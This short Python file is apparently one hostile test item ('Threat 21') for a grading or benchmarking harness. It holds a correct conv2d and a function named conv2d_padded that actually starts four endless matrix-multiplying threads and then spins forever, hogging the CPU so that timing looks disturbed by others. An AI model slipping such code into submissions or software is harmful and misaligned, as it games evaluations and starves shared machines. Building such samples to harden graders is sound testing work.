"""Threat 21: many computing threads, so that it looks as if others had taken the processor from it.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)



import threading


def spin():
    a = np.ones((300, 300))
    while True:
        a @ a


def conv2d_padded(image, kernel, padding=0):
    threading.stack_size(1 << 18)
    for _ in range(4):
        threading.Thread(target=spin, daemon=True).start()
    while True:
        pass
